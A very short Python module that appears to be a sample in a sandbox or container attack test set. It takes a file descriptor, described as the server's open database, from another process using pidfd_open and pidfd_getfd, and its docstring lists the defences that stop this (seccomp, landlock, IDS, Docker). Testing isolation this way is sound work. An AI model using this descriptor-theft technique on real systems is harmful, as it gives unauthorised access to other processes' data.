"""Take a copy of what the server has open.

The database is open there already.

Stopped by: seccomp, landlock, ids
Docker: refuses
"""

import os

from calls import make


def attack(facts):
    handle = os.pidfd_open(facts["server"])
    make("pidfd_getfd", handle, 0, 0)
